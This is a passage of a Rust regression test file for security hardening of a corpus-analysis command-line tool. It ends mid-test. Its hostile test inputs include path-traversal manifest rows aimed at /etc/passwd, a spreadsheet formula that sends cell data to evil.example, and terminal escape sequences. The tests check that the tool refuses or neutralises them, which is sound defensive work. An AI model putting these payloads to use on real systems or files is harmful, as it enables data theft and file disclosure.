//! Regression tests for the hardening of issue 14, one section per row of its table; each
//! promise of docs/security.md names the test here that checks it.

use std::path::Path;
use std::time::Duration;

use crate::common::*;

/// A command that must not hang: a blocked read (FIFO) fails the test instead of the suite.
fn bounded(mut cmd: assert_cmd::Command) -> assert_cmd::Command {
    cmd.timeout(Duration::from_secs(60));
    cmd
}

fn passages_on(dir: &Path) -> assert_cmd::Command {
    let mut cmd = stance(&["passages", "--format", "json", "--corpus"]);
    cmd.arg(dir);
    bounded(cmd)
}

fn mkfifo(path: &Path) {
    let ok = std::process::Command::new("mkfifo").arg(path).status().expect("mkfifo runs").success();
    assert!(ok, "mkfifo {}", path.display());
}

// Row 1: manifest paths stay inside the corpus folder; only regular files, size-capped.

#[test]
fn row1_manifest_dotdot_escape_is_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), EN_TEXT).unwrap();
    let dir = corpus(None, &[("a.txt", FR_TEXT.as_bytes())]);
    // ../<outside>/secret.txt, relative to the corpus folder
    let rel = format!("../{}/secret.txt", outside.path().file_name().unwrap().to_string_lossy());
    let dir2 = tempfile::tempdir_in(outside.path().parent().unwrap()).unwrap();
    std::fs::write(dir2.path().join("a.txt"), FR_TEXT).unwrap();
    std::fs::write(dir2.path().join("manifest.csv"), format!("file,issuer\na.txt,Russia\n{rel},Evil\n")).unwrap();
    fails(passages_on(dir2.path()), 1, &["manifest.csv:3", "outside the corpus folder"]);
    let deep = "file,issuer\na.txt,Russia\n../../../../../../../../etc/passwd,Evil\n";
    std::fs::write(dir.path().join("manifest.csv"), deep).unwrap();
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "outside the corpus folder"]);
}

#[test]
fn row1_manifest_absolute_path_is_refused() {
    let dir = corpus(Some("file,issuer\na.txt,Russia\n/etc/passwd,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "absolute path"]);
    let dir = corpus(Some("file,issuer\na.txt,Russia\n/dev/zero,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "absolute path"]);
}

#[test]
fn row1_symlink_outside_is_refused_inside_is_read() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), EN_TEXT).unwrap();
    let dir = corpus(Some("file,issuer\na.txt,Russia\nb.txt,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), dir.path().join("b.txt")).unwrap();
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "b.txt", "outside the corpus folder"]);
    // Without a manifest the same rule holds for every .txt.
    std::fs::remove_file(dir.path().join("manifest.csv")).unwrap();
    fails(passages_on(dir.path()), 1, &["b.txt", "outside the corpus folder"]);
    // A link that stays inside the folder is fine.
    std::fs::remove_file(dir.path().join("b.txt")).unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/en.txt"), EN_TEXT).unwrap();
    std::os::unix::fs::symlink("sub/en.txt", dir.path().join("b.txt")).unwrap();
    std::fs::write(dir.path().join("manifest.csv"), "file,issuer\na.txt,Russia\nb.txt,EU\n").unwrap();
    let out = stdout(passages_on(dir.path()));
    assert!(out.contains("\"EU\""), "{out}");
}

#[test]
fn row1_fifo_and_device_rows_are_refused_without_blocking() {
    let dir = corpus(Some("file,issuer\na.txt,Russia\npipe.txt,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    mkfifo(&dir.path().join("pipe.txt"));
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "not a regular file"]);
    // A link inside the folder to a device is refused as outside, before anything is opened.
    let dir = corpus(Some("file,issuer\na.txt,Russia\nzero.txt,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.txt")).unwrap();
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "outside the corpus folder"]);
    let dir = corpus(Some("file,issuer\na.txt,Russia\nsub,Evil\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    fails(passages_on(dir.path()), 1, &["manifest.csv:3", "is a folder"]);
}

#[test]
fn row1_size_cap_is_checked_before_reading_and_overridable() {
    let big = EN_TEXT.repeat(2 * 1024 * 1024 / EN_TEXT.len() + 1); // just over 2 MB
    let dir = corpus(
        Some("file,issuer\na.txt,Russia\nbig.txt,EU\n"),
        &[("a.txt", FR_TEXT.as_bytes()), ("big.txt", big.as_bytes())],
    );
    let mut cmd = passages_on(dir.path());
    cmd.env("STANCE_MAX_FILE_MB", "1");
    fails(cmd, 1, &["manifest.csv:3", "big.txt", "over the 1 MB limit", "STANCE_MAX_FILE_MB"]);
    let mut cmd = passages_on(dir.path());
    cmd.env("STANCE_MAX_FILE_MB", "lots");
    fails(cmd, 2, &["STANCE_MAX_FILE_MB"]);
    let mut cmd = passages_on(dir.path());
    cmd.env("STANCE_MAX_FILE_MB", "3");
    stdout(cmd);
}

#[test]
fn row1_ingest_applies_the_same_rules() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().join("ws");
    let seed = small_corpus();
    let mut init = stance(&["init", "--workspace"]);
    init.arg(&root).arg("--corpus").arg(seed.path());
    stdout(init);
    let batch = corpus(Some("file,issuer\n../../../../../../../etc/passwd,Evil\n"), &[]);
    let mut cmd = stance(&["ingest", "--workspace"]);
    cmd.arg(&root).arg(batch.path().join("manifest.csv"));
    fails(bounded(cmd), 1, &["manifest.csv:2", "outside the corpus folder"]);
    mkfifo(&batch.path().join("pipe.txt"));
    let mut cmd = stance(&["ingest", "--issuer", "Evil", "--workspace"]);
    cmd.arg(&root).arg(batch.path().join("pipe.txt"));
    fails(bounded(cmd), 1, &["pipe.txt", "not a regular file"]);
    let mut cmd = stance(&["ingest", "--issuer", "Evil", "--workspace"]);
    cmd.arg(&root).arg("/dev/zero");
    fails(bounded(cmd), 1, &["/dev/zero", "not a regular file"]);
}

// Row 10 (part): a text with lone CR line ends gives the same passages from a file and stdin.

#[test]
fn row10_lone_cr_same_from_stdin_and_file() {
    let text = "The first paragraph speaks of international law and binding norms in cyberspace.\r\r\
The second paragraph supports the Budapest Convention on Cybercrime and its protocols.\r";
    let dir = corpus(None, &[("cr.txt", text.as_bytes())]);
    let passages = |v: serde_json::Value| v["passages"].clone();
    let mut from_file = stance(&["tokens", "--format", "json", "--lang", "en"]);
    from_file.arg(dir.path().join("cr.txt"));
    let mut from_stdin = stance(&["tokens", "--format", "json", "--lang", "en", "-"]);
    from_stdin.write_stdin(text);
    let (a, b) = (passages(json(from_file)), passages(json(from_stdin)));
    assert_eq!(a, b);
    assert_eq!(a.as_array().map(Vec::len), Some(2), "two paragraphs: {a}");
}

// Row 3: `--out` replaces only a regular file; `-` and /dev/stdout are standard output.

fn report_to(out: &Path, corpus_dir: &Path) -> assert_cmd::Command {
    let mut cmd = stance(&["report", "--draws", "0", "--corpus"]);
    cmd.arg(corpus_dir).arg("--out").arg(out);
    bounded(cmd)
}

#[test]
fn row3_out_refuses_fifo_and_link_to_fifo() {
    use std::os::unix::fs::FileTypeExt;
    let c = small_corpus();
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    mkfifo(&fifo);
    fails(report_to(&fifo, c.path()), 2, &["pipe", "not a regular file"]);
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo(), "the FIFO is left as it was");
    let link = dir.path().join("link.html");
    std::os::unix::fs::symlink(&fifo, &link).unwrap();
    fails(report_to(&link, c.path()), 2, &["link.html", "not a regular file"]);
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link is left as it was");
    let mut export = stance(&["export", "--draws", "0", "--corpus"]);
    export.arg(c.path()).arg("--out").arg(&fifo);
    fails(bounded(export), 2, &["pipe", "not a regular file"]);
    let mut fit = stance(&["fit", "--corpus"]);
    fit.arg(c.path()).arg("--out").arg(&link);
    fails(bounded(fit), 2, &["link.html", "not a regular file"]);
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
}

#[test]
fn row3_out_through_a_link_keeps_the_link() {
    let c = small_corpus();
    let dir = tempfile::tempdir().unwrap();
    let real = dir.path().join("real.html");
    std::fs::write(&real, "old").unwrap();
    let link = dir.path().join("report.html");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    stdout(report_to(&link, c.path()));
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "still a link");
    assert!(std::fs::read_to_string(&real).unwrap().contains("<html"), "the file it points to was written");
    let dangling = dir.path().join("dangling.html");
    std::os::unix::fs::symlink(dir.path().join("nowhere/x.html"), &dangling).unwrap();
    fails(report_to(&dangling, c.path()), 2, &["dangling.html", "link to nothing"]);
}

#[test]
fn row3_out_dash_and_dev_stdout_are_standard_output() {
    let c = small_corpus();
    for out in ["-", "/dev/stdout"] {
        let page = stdout(report_to(Path::new(out), c.path()));
        assert!(
            page.starts_with("<!DOCTYPE html>") || page.contains("<html"),
            "{out}: {}",
            &page[..page.len().min(80)]
        );
        assert!(page.trim_end().ends_with("</html>"));
    }
}

// Row 2: `init` never deletes what it did not create; concurrent inits cannot destroy each other.

fn init_cmd(ws: &Path, corpus_dir: &Path) -> std::process::Command {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("stance"));
    cmd.args(["--quiet", "init", "--workspace"]).arg(ws).arg("--corpus").arg(corpus_dir);
    cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::piped());
    cmd
}

/// Starts `n` inits of `ws` at once; returns how many succeeded, checking every failure is a
/// clean one-line refusal.
fn race_inits(ws: &Path, corpus_dir: &Path, n: usize) -> usize {
    let children: Vec<_> = (0..n).map(|_| init_cmd(ws, corpus_dir).spawn().expect("spawn")).collect();
    let mut won = 0;
    for child in children {
        let out = child.wait_with_output().expect("wait");
        let err = String::from_utf8_lossy(&out.stderr);
        if out.status.success() {
            won += 1;
        } else {
            assert_eq!(out.status.code(), Some(2), "{err}");
            assert_eq!(err.trim_end().lines().count(), 1, "{err}");
            assert!(err.contains("already a workspace") || err.contains("another `stance init`"), "{err}");
        }
    }
    won
}

/// No temporary folder or lock of an init is left beside `ws`.
fn no_init_leftovers(ws: &Path) {
    let prefix = format!(".{}.stance-init.", ws.file_name().unwrap().to_string_lossy());
    let left: Vec<String> = std::fs::read_dir(ws.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(&prefix))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

#[test]
fn row2_concurrent_inits_one_wins_and_its_workspace_survives() {
    let c = small_corpus();
    for round in 0..2 {
        let parent = tempfile::tempdir().unwrap();
        let ws = parent.path().join("ws");
        let won = race_inits(&ws, c.path(), 20);
        assert!(won <= 1, "round {round}: {won} inits succeeded");
        if won == 1 {
            assert!(ws.join("stance.db").is_file(), "round {round}: the winner's workspace was deleted");
            let mut history = stance(&["history", "--format", "json", "--workspace"]);
            history.arg(&ws);
            stdout(history);
        }
        no_init_leftovers(&ws);
    }
}

#[test]
fn row2_concurrent_inits_keep_the_users_files() {
    let c = small_corpus();
    let parent = tempfile::tempdir().unwrap();
    let ws = parent.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("notes.txt"), "mine").unwrap();
    let won = race_inits(&ws, c.path(), 20);
    assert!(won <= 1, "{won} inits succeeded");
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "mine");
    assert_eq!(ws.join("stance.db").is_file(), won == 1);
    no_init_leftovers(&ws);
}

#[test]
fn row2_failed_init_removes_only_what_it_made() {
    let bad = corpus(Some("file,issuer\na.txt,X\n"), &[("a.txt", b"Bonjour.")]); // fails in the pipeline
    let parent = tempfile::tempdir().unwrap();
    let ws = parent.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("notes.txt"), "mine").unwrap();
    let mut cmd = stance(&["init", "--workspace"]);
    cmd.arg(&ws).arg("--corpus").arg(bad.path());
    fails(cmd, 1, &["no passage"]);
    let names: Vec<String> =
        std::fs::read_dir(&ws).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into()).collect();
    assert_eq!(names, ["notes.txt"], "only the user's file is left");
    no_init_leftovers(&ws);
    // A folder that did not exist is not created by a failed init.
    let fresh = parent.path().join("fresh");
    let mut cmd = stance(&["init", "--workspace"]);
    cmd.arg(&fresh).arg("--corpus").arg(bad.path());
    fails(cmd, 1, &["no passage"]);
    assert!(!fresh.exists());
    no_init_leftovers(&fresh);
}

#[test]
fn row2_stale_lock_of_a_killed_init_is_cleared_live_one_refused() {
    let c = small_corpus();
    let parent = tempfile::tempdir().unwrap();
    let ws = parent.path().join("ws");
    let lock = parent.path().join(".ws.stance-init.lock");
    // A live lock (this test's own process) refuses.
    std::fs::write(&lock, format!("{}\n", std::process::id())).unwrap();
    let mut cmd = stance(&["init", "--workspace"]);
    cmd.arg(&ws).arg("--corpus").arg(c.path());
    fails(cmd, 2, &["another `stance init`", "lock"]);
    // A killed run: its process is gone, its temporary folder left with a half-built database.
    let mut gone = std::process::Command::new("true").spawn().unwrap();
    let pid = gone.id();
    gone.wait().unwrap();
    let stale = parent.path().join(".ws.stance-init.XyZ123");
    std::fs::create_dir(&stale).unwrap();
    std::fs::write(stale.join("stance.db"), vec![0u8; 4096]).unwrap();
    std::fs::write(&lock, format!("{pid}\n.ws.stance-init.XyZ123\n")).unwrap();
    let mut cmd = stance(&["init", "--workspace"]);
    cmd.arg(&ws).arg("--corpus").arg(c.path());
    stdout(cmd);
    assert!(ws.join("stance.db").is_file());
    no_init_leftovers(&ws);
}

// Row 4: every user-set count has a cap, with an error giving it; zero where meaningless is refused.

#[test]
fn row4_counts_over_their_cap_are_refused_fast() {
    let c = small_corpus();
    let on = |args: &[&str]| {
        let mut cmd = stance(args);
        cmd.arg("--corpus").arg(c.path());
        bounded(cmd)
    };
    fails(on(&["similarity", "--draws", "100000000"]), 2, &["--draws 100000000", "cap of 10000"]);
    fails(on(&["compare", "east", "west", "--draws", "10001"]), 2, &["--draws", "cap of 10000"]);
    fails(on(&["compare", "east", "west", "--evidence", "100000"]), 2, &["--evidence", "cap of 100"]);
    fails(on(&["report", "--out", "-", "--draws", "100000000"]), 2, &["--draws", "cap"]);
    fails(on(&["export", "--out", "x", "--terms", "99999999"]), 2, &["--terms", "cap"]);
    fails(on(&["fit", "--svd-iter", "100000"]), 2, &["--svd-iter 100000", "cap of 50"]);
    fails(on(&["fit", "--dims", "100000"]), 2, &["--dims", "cap of 1000"]);
    fails(on(&["fit", "--k", "1000000"]), 2, &["--k", "cap of 1000"]);
    fails(on(&["topics", "--terms", "1000000000"]), 2, &["--terms", "cap"]);
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().join("ws");
    let mut init = stance(&["init", "--workspace"]);
    init.arg(&root).arg("--corpus").arg(c.path());
    stdout(init);
    let mut diff = stance(&["diff", "--draws", "100000000", "--workspace"]);
    diff.arg(&root);
    fails(bounded(diff), 2, &["--draws", "cap of 10000"]);
}

#[test]
fn row4_zero_where_meaningless_is_refused() {
    let c = small_corpus();
    for (flag, what) in [("--k", "--k 0"), ("--dims", "--dims 0"), ("--min-words", "--min-words 0")] {
        let mut cmd = stance(&["fit", flag, "0", "--corpus"]);
        cmd.arg(c.path());
        fails(bounded(cmd), 2, &[what, "means nothing"]);
    }
}

#[test]
fn row4_draws_cap_follows_memory_per_draw() {
    // 3,000 one-passage documents: a --by document matrix is 144 MB per draw, so 200 draws
    // (29 GB) exceed the 4 GB budget and the error gives the number that fits (29).
    let mut manifest = String::from("file,issuer\n");
    let mut files = Vec::new();
    for i in 0..3000 {
        manifest.push_str(&format!("d{i}.txt,I{i}\n"));
        files.push((
            format!("d{i}.txt"),
            format!("Document {i} on international law and binding norms in cyberspace.\n"),
        ));
    }
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, t)| (n.as_str(), t.as_bytes())).collect();
    let dir = corpus(Some(&manifest), &refs);
    let mut cmd = stance(&["similarity", "--by", "document", "--draws", "200", "--format", "json", "--corpus"]);
    cmd.arg(dir.path());
    fails(bounded(cmd), 2, &["--draws 200 for 3000 groups", "at most 29", "--draws 29 or fewer"]);
}

// Row 7: saved models carry a BLAKE3 checksum; a damaged or old-format model is a one-line error.

#[test]
fn row7_damaged_model_is_refused_by_classify() {
    let c = small_corpus();
    let out = tempfile::tempdir().unwrap();
    let mut fit = stance(&["fit", "--corpus"]);
    fit.arg(c.path()).arg("--out").arg(out.path());
    stdout(fit);
    let model = out.path().join("model.bin");
    let good = std::fs::read(&model).unwrap();
    let text = out.path().join("new.txt");
    std::fs::write(&text, EN_TEXT).unwrap();
    let classify = || {
        let mut cmd = stance(&["classify", "--format", "json", "--model"]);
        cmd.arg(&model).arg(&text).arg("--corpus").arg(c.path());
        cmd
    };
    stdout(classify());
    let n = good.len();
    for at in [40, 60, n / 4, n / 2, 3 * n / 4, n - 1] {
        let mut bad = good.clone();
        bad[at] ^= 0x10;
        std::fs::write(&model, &bad).unwrap();
        fails(classify(), 1, &["model.bin", "damaged", "refit it with `stance fit`"]);
    }
    let mut old = good.clone();
    old[..4].copy_from_slice(&3u32.to_le_bytes());
    std::fs::write(&model, &old).unwrap();
    fails(classify(), 1, &["model format 3", "refit it with `stance fit`"]);
}

// Rows 8 and 9: CSV cells a spreadsheet would run are neutralised; terminals get no control characters.

fn hostile_corpus() -> tempfile::TempDir {
    let evil_text = format!("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {EN_TEXT}\n\n@SUM(1+1) {EN_TEXT}");
    corpus(
        Some(
            "file,issuer,bloc\na.txt,Russia,east\nb.txt,\"=HYPERLINK(\"\"http://evil.example\"\")\",west\nc.txt,\"\u{1b}[2J\u{1b}[31mEvil\u{7}\",west\n",
        ),
        &[
            ("a.txt", FR_TEXT.as_bytes()),
            ("b.txt", evil_text.as_bytes()),
            ("c.txt", b"We oppose any legally binding instrument and reject the Budapest Convention.\n\nWe support the multistakeholder model of Internet governance today."),
        ],
    )
}

/// Every cell of a CSV text; `true` when a cell would run as a formula.
fn formula_cells(text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut bad = Vec::new();
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err() {
                bad.push(cell.to_string());
            }
        }
    }
    bad
}

#[test]
fn row8_csv_exports_neutralise_formulas_keep_negative_numbers() {
    let c = hostile_corpus();
    let out = tempfile::tempdir().unwrap();
    let mut export = stance(&["export", "--draws", "0", "--compare", "east", "west", "--corpus"]);
    export.arg(c.path()).arg("--out").arg(out.path());
    stdout(bounded(export));
    let mut negatives = 0;
    for f in [
        "passages.csv",
        "topics.csv",
        "similarity.csv",
        "stances.csv",
        "keyness.csv",
        "clusters.csv",
        "cluster_members.csv",
    ] {
        let text = std::fs::read_to_string(out.path().join(f)).unwrap();
        assert!(formula_cells(&text).is_empty(), "{f}: {:?}", formula_cells(&text));
        negatives += text.split([',', '\n']).filter(|c| c.starts_with('-') && c.parse::<f64>().is_ok()).count();
    }
    let passages = std::fs::read_to_string(out.path().join("passages.csv")).unwrap();
    assert!(passages.contains("'=HYPERLINK(") && passages.contains("'@SUM(1+1)"), "neutralised, kept");
    assert!(negatives > 0, "negative numbers stay numbers");
    // --format csv on stdout too; --raw-csv turns it off.
    let mut sim = stance(&["similarity", "--format", "csv", "--draws", "0", "--corpus"]);
    sim.arg(c.path());
    let text = stdout(sim);
    assert!(formula_cells(&text).is_empty() && text.contains("'=HYPERLINK("), "{text}");
    let mut raw = stance(&["similarity", "--format", "csv", "--draws", "0", "--raw-csv", "--corpus"]);
    raw.arg(c.path());
    let raw = stdout(raw);
    assert!(raw.contains("\n\"=HYPERLINK(") && !raw.contains("'="), "--raw-csv writes cells as they are: {raw}");
}

#[test]
fn row9_tables_and_errors_carry_no_control_characters() {
    let c = hostile_corpus();
    for args in [&["similarity", "--draws", "0"][..], &["passages"][..], &["topics"][..]] {
        let mut cmd = stance(args);
        cmd.arg("--corpus").arg(c.path());
        let out = stdout(cmd);
        assert!(out.contains("Evil"), "{args:?}: the issuer is still shown");
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{7}'),
            "{args:?}: raw control characters reach the terminal"
        );
    }
    let mut cmd = stance(&["compare", "\u{1b}[2Jnato", "west", "--corpus"]);
    cmd.arg(c.path());
    let out = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("nato") && !err.contains('\u{1b}'), "{err:?}");
}

// Row 6: workspace integrity — checked before writes, `doctor`, no silent new workspace, read-only use.

fn new_workspace(parent: &Path) -> std::path::PathBuf {
    let c = small_corpus();
    let ws = parent.join("ws");
    let mut init = stance(&["init", "--workspace"]);
    init.arg(&ws).arg("--corpus").arg(c.path());
    stdout(init);
    ws
}

fn on_ws(args: &[&str], ws: &Path) -> assert_cmd::Command {
    let mut cmd = stance(args);
    cmd.arg("--workspace").arg(ws);
    bounded(cmd)
}

#[test]
fn row6_damaged_database_is_never_written_and_doctor_reports_it() {
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let db = ws.join("stance.db");
    let mut bytes = std::fs::read(&db).unwrap();
    let page = 4096;
    let mid = bytes.len() / 2 / page * page;
    bytes[mid..mid + page].iter_mut().enumerate().for_each(|(i, b)| *b = (i * 37 % 251) as u8);
    std::fs::write(&db, &bytes).unwrap();
    let new = parent.path().join("new.txt");
    std::fs::write(&new, "A new statement on international law in cyberspace and binding norms for all States.")
        .unwrap();
    let mut ingest = on_ws(&["ingest", "--issuer", "X"], &ws);
    ingest.arg(&new);
    fails(ingest, 1, &["stance.db", "damaged"]);
    assert_eq!(std::fs::read(&db).unwrap(), bytes, "nothing written to a damaged database");
    let out = on_ws(&["doctor", "--format", "json"], &ws).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["ok"], false);
    assert_ne!(report["integrity"], serde_json::json!(["ok"]), "{report}");
}

#[test]
fn row6_doctor_checks_model_checksums() {
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let model = std::fs::read_dir(ws.join("models")).unwrap().next().unwrap().unwrap().path();
    let mut bytes = std::fs::read(&model).unwrap();
    let n = bytes.len();
    bytes[n / 2] ^= 1;
    std::fs::write(&model, &bytes).unwrap();
    let out = on_ws(&["doctor", "--format", "json"], &ws).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["integrity"], serde_json::json!(["ok"]));
    assert!(report["models"][0]["problem"].as_str().unwrap().contains("checksum"), "{report}");
}

#[test]
fn row6_doctor_and_update_never_open_a_model_file_outside_models() {
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let outside = parent.path().join("outside.bin");
    std::fs::copy(std::fs::read_dir(ws.join("models")).unwrap().next().unwrap().unwrap().path(), &outside).unwrap();
    let c = rusqlite::Connection::open(ws.join("stance.db")).unwrap();
    c.execute("UPDATE models SET file = '../outside.bin'", []).unwrap();
    drop(c);
    let out = on_ws(&["doctor", "--format", "json"], &ws).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(report["models"][0]["problem"].as_str().unwrap().contains("outside models/"), "{report}");
    let new = parent.path().join("new.txt");
    std::fs::write(&new, format!("{EN_TEXT}\nA new statement on capacity building in cyberspace.\n")).unwrap();
    let mut ingest = on_ws(&["ingest", "--issuer", "X"], &ws);
    ingest.arg(&new);
    assert!(ingest.output().unwrap().status.success());
    fails(on_ws(&["update"], &ws), 1, &["outside models/"]);
}

#[test]
fn row6_empty_or_foreign_database_is_an_error_not_a_new_workspace() {
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let db = ws.join("stance.db");
    std::fs::write(&db, b"").unwrap();
    for args in [&["history"][..], &["update"][..], &["similarity"][..]] {
        fails(on_ws(args, &ws), 1, &["stance.db", "empty (0 bytes)"]);
    }
    let new = parent.path().join("new.txt");
    std::fs::write(&new, EN_TEXT).unwrap();
    let mut ingest = on_ws(&["ingest", "--issuer", "X"], &ws);
    ingest.arg(&new);
    fails(ingest, 1, &["empty (0 bytes)"]);
    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0, "still empty: no new workspace made");
    std::fs::write(&db, b"this is not a database, just text that got here").unwrap();
    fails(on_ws(&["history"], &ws), 1, &["not a SQLite database"]);
}

#[test]
fn row6_read_only_workspace_serves_read_commands_and_creates_nothing() {
    use std::os::unix::fs::PermissionsExt;
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let listing = |dir: &Path| {
        let mut v: Vec<String> =
            std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
        v.sort();
        v
    };
    let before = listing(&ws);
    let set = |mode: u32, file_mode: u32| {
        std::fs::set_permissions(ws.join("stance.db"), std::fs::Permissions::from_mode(file_mode)).unwrap();
        std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    set(0o555, 0o444);
    let outcome = std::panic::catch_unwind(|| {
        stdout(on_ws(&["history"], &ws));
        stdout(on_ws(&["similarity", "--draws", "0"], &ws));
        stdout(on_ws(&["doctor"], &ws));
        listing(&ws)
    });
    set(0o755, 0o644);
    assert_eq!(outcome.expect("read commands work on a read-only workspace"), before, "no file created");
}

// Row 5: an export is one unit — after a kill at any moment the folder holds the whole old set
// or the whole new one, and manifest.json's hashes match the files.

/// File name → bytes of every file in `dir`.
fn snapshot(dir: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (e.file_name().to_string_lossy().into_owned(), std::fs::read(e.path()).unwrap())
        })
        .collect()
}

fn export_to(c: &Path, out: &Path, seed: &str) -> std::process::Command {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("stance"));
    cmd.args(["--quiet", "export", "--draws", "2000", "--seed", seed, "--corpus"]).arg(c).arg("--out").arg(out);
    cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    cmd
}

#[test]
fn row5_killed_export_leaves_the_old_set_or_the_new_one() {
    let c = hostile_corpus();
    let parent = tempfile::tempdir().unwrap();
    let (old, new) = (parent.path().join("old"), parent.path().join("new"));
    assert!(export_to(c.path(), &old, "1").status().unwrap().success());
    let started = std::time::Instant::now();
    assert!(export_to(c.path(), &new, "2").status().unwrap().success());
    let duration = started.elapsed(); // kills are spread over 0 to 1.3 times this
    let (old_set, new_set) = (snapshot(&old), snapshot(&new));
    assert_ne!(old_set, new_set);
    let manifest: serde_json::Value = serde_json::from_slice(&new_set["manifest.json"]).unwrap();
    for f in manifest["files"].as_array().unwrap() {
        let bytes = &new_set[f["name"].as_str().unwrap()];
        assert_eq!(f["sha256"].as_str().unwrap(), stance::corpus::sha256_hex(bytes));
        assert_eq!(f["bytes"].as_u64().unwrap() as usize, bytes.len());
    }
    let target = parent.path().join("exports");
    let (mut saw_old, mut saw_new) = (0, 0);
    for attempt in 0..12u64 {
        if target.exists() {
            std::fs::remove_dir_all(&target).unwrap();
        }
        std::fs::create_dir(&target).unwrap();
        for (name, bytes) in &old_set {
            std::fs::write(target.join(name), bytes).unwrap();
        }
        let mut child = export_to(c.path(), &target, "2").spawn().unwrap();
        std::thread::sleep(duration.mul_f64(attempt as f64 / 9.0));
        let _ = child.kill();
        let _ = child.wait();
        let now = snapshot(&target);
        if now == old_set {
            saw_old += 1;
        } else if now == new_set {
            saw_new += 1;
        } else {
            panic!("attempt {attempt}: a mix of two exports: {:?}", now.keys().collect::<Vec<_>>());
        }
    }
    eprintln!("killed exports: {saw_old} left the old set, {saw_new} the new one");
}

#[test]
fn row5_export_keeps_the_users_files_and_refuses_sub_folders() {
    let c = small_corpus();
    let out = tempfile::tempdir().unwrap();
    std::fs::write(out.path().join("notes.txt"), "mine").unwrap();
    let export = || {
        let mut cmd = stance(&["export", "--draws", "0", "--corpus"]);
        cmd.arg(c.path()).arg("--out").arg(out.path());
        bounded(cmd)
    };
    stdout(export());
    stdout(export()); // over an earlier export
    assert_eq!(std::fs::read_to_string(out.path().join("notes.txt")).unwrap(), "mine");
    assert!(out.path().join("manifest.json").is_file());
    no_tmp_left(out.path());
    std::fs::create_dir(out.path().join("figures")).unwrap();
    fails(export(), 2, &["figures", "new folder"]);
    assert_eq!(std::fs::read_to_string(out.path().join("notes.txt")).unwrap(), "mine");
}

/// No temporary folder of an export is left beside `out`.
fn no_tmp_left(out: &Path) {
    let prefix = format!(".{}.stance-tmp.", out.file_name().unwrap().to_string_lossy());
    let left: Vec<_> = std::fs::read_dir(out.parent().unwrap())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

// Row 10: impossible dates and empty names refused; `fit --out` removes only its own stale files.

#[test]
fn row10_ingest_refuses_impossible_dates_and_empty_names() {
    let parent = tempfile::tempdir().unwrap();
    let ws = new_workspace(parent.path());
    let text = parent.path().join("new.txt");
